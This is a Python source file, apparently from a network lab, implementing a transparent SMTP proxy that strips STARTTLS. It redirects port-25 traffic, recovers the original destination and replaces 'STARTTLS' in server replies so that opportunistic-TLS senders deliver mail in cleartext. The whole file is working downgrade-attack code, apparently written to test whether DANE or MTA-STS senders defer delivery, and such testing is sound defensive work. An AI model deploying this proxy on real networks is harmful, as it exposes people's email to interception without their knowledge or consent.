"""An attacker's box on the path: a transparent SMTP proxy that hides STARTTLS.

Run inside a router node (``python -m lab.middlebox strip-starttls PORT LOG``) behind an
nftables REDIRECT of every TCP connection to port 25 crossing the router.  It connects
to the original destination (SO_ORIGINAL_DST) and copies bytes both ways, replacing
``STARTTLS`` with ``XXXXXXXX`` in what the server says: the same length, so the EHLO
reply stays well-formed and the sender simply sees no STARTTLS offered.  A sender with
opportunistic TLS then sends the message in clear; one with DANE (or MTA-STS) defers it.

The proxy is not transparent on the far side: the server sees the router's address as
the client (so SPF fails there, while DKIM and with it DMARC still pass).
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time

SO_ORIGINAL_DST = 80
HIDE = (b"STARTTLS", b"XXXXXXXX")


def _log(path: str, text: str) -> None:
    with open(path, "a") as f:
        f.write(f"{time.strftime('%Y-%m-%d %H:%M:%S')} {text}\n")


def _pump(src: socket.socket, dst: socket.socket, rewrite: bool, seen: list[int]) -> None:
    tail = b""
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            if rewrite:
                # the word may be split across two reads: hold back only an ending that could
                # be its start (never a whole reply line, which would stall the dialogue)
                hidden = (tail + data).replace(*HIDE)
                seen[0] += (tail + data).count(HIDE[0])
                keep = next((k for k in range(len(HIDE[0]) - 1, 0, -1) if hidden.endswith(HIDE[0][:k])), 0)
                data, tail = hidden[: len(hidden) - keep], hidden[len(hidden) - keep :]
                if not data:
                    continue
            dst.sendall(data)
        if tail:
            dst.sendall(tail)
    except OSError:
        pass
    finally:
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def _serve(client: socket.socket, peer: tuple[str, int], log: str) -> None:
    raw = client.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    port, ip = struct.unpack_from("!H", raw, 2)[0], socket.inet_ntoa(raw[4:8])
    try:
        server = socket.create_connection((ip, port), timeout=10)
    except OSError as exc:
        _log(log, f"{peer[0]}:{peer[1]} -> {ip}:{port}: cannot connect: {exc}")
        client.close()
        return
    server.settimeout(None)
    seen = [0]
    back = threading.Thread(target=_pump, args=(server, client, True, seen), daemon=True)
    back.start()
    _pump(client, server, False, [0])
    back.join(timeout=30)
    _log(log, f"{peer[0]}:{peer[1]} -> {ip}:{port}: relayed, STARTTLS hidden {seen[0]} time(s)")
    client.close()
    server.close()


def main(argv: list[str]) -> int:
    kind, port, log = argv[0], int(argv[1]), argv[2]
    if kind != "strip-starttls":
        raise SystemExit(f"unknown middlebox {kind!r}")
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", port))
    srv.listen(64)
    _log(log, f"listening on :{port}, hiding STARTTLS from every SMTP server")
    while True:
        c, peer = srv.accept()
        threading.Thread(target=_serve, args=(c, peer, log), daemon=True).start()


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
